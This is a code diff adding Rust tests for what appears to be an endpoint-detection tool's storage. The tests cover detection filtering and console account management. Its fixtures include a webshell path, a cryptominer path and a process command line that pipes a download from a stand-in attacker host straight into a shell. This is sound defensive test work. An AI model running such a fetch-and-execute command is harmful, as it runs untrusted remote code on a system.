@@ -510,3 +510,122 @@ fn organisations_hold_their_agents_tokens_detections_and_certificates() {
         assert_eq!(s.list_certs().unwrap()[0].org, "alpha");
     });
 }
+
+#[test]
+fn detections_filter_by_kind_rule_time_and_text() {
+    both("detection_filters", |s, _| {
+        s.create_token("h", 0, i64::MAX, 1, "default").unwrap();
+        s.enroll("h", "a", "host", 1).unwrap().unwrap();
+        let file = |id: &str, rule: &str, path: &str| Detection {
+            rule: rule.into(),
+            target: Some(detection::Target::File(FileTarget {
+                path: path.into(),
+                ..Default::default()
+            })),
+            ..detection(id)
+        };
+        let process = Detection {
+            id: "p".into(),
+            kind: vedette_proto::v1::DetectionKind::Process as i32,
+            rule: "shell".into(),
+            target: Some(detection::Target::Process(
+                vedette_proto::v1::ProcessTarget {
+                    exe: "/usr/bin/curl".into(),
+                    cmdline: "curl http://Evil.example/x | sh".into(),
+                    ..Default::default()
+                },
+            )),
+            ..Default::default()
+        };
+        s.insert_detections("a", &[file("f1", "webshell", "/var/www/a.php")], 100)
+            .unwrap();
+        s.insert_detections("a", &[file("f2", "miner", "/tmp/xmrig")], 200)
+            .unwrap();
+        s.insert_detections("a", &[process], 300).unwrap();
+        let ids = |f: DetectionFilter| -> Vec<String> {
+            s.list_detections(&DetectionFilter {
+                limit: 10,
+                max_bytes: usize::MAX,
+                ..f
+            })
+            .unwrap()
+            .detections
+            .iter()
+            .map(|d| d.detection.as_ref().unwrap().id.clone())
+            .collect()
+        };
+        assert_eq!(
+            ids(DetectionFilter {
+                kind: Some(vedette_proto::v1::DetectionKind::Process as i32),
+                ..Default::default()
+            }),
+            ["p"]
+        );
+        assert_eq!(
+            ids(DetectionFilter {
+                rule: Some("miner".into()),
+                ..Default::default()
+            }),
+            ["f2"]
+        );
+        assert_eq!(
+            ids(DetectionFilter {
+                since_ms: Some(150),
+                until_ms: Some(300),
+                ..Default::default()
+            }),
+            ["f2"]
+        );
+        // Text: path, or command line, in any case.
+        assert_eq!(
+            ids(DetectionFilter {
+                text: Some("WWW".into()),
+                ..Default::default()
+            }),
+            ["f1"]
+        );
+        assert_eq!(
+            ids(DetectionFilter {
+                text: Some("evil.EXAMPLE".into()),
+                ..Default::default()
+            }),
+            ["p"]
+        );
+        assert!(
+            ids(DetectionFilter {
+                text: Some("nowhere".into()),
+                ..Default::default()
+            })
+            .is_empty()
+        );
+    });
+}
+
+#[test]
+fn console_accounts_are_created_updated_and_removed() {
+    both("users", |s, reopen| {
+        let alice = UserRow {
+            name: "alice".into(),
+            password_hash: "$argon2id$one".into(),
+            roles: "operator".into(),
+            org: String::new(),
+            created_at_ms: 7,
+        };
+        assert!(s.put_user(&alice).unwrap());
+        let changed = UserRow {
+            password_hash: "$argon2id$two".into(),
+            org: "cert-fr".into(),
+            ..alice.clone()
+        };
+        assert!(!s.put_user(&changed).unwrap());
+        let got = reopen().user("alice").unwrap().unwrap();
+        assert_eq!(got.password_hash, "$argon2id$two");
+        assert_eq!(got.org, "cert-fr");
+        assert_eq!(got.created_at_ms, 7);
+        assert_eq!(s.user("bob").unwrap(), None);
+        assert_eq!(s.list_users().unwrap().len(), 1);
+        assert!(s.remove_user("alice").unwrap());
+        assert!(!s.remove_user("alice").unwrap());
+        assert!(s.list_users().unwrap().is_empty());
+    });
+}
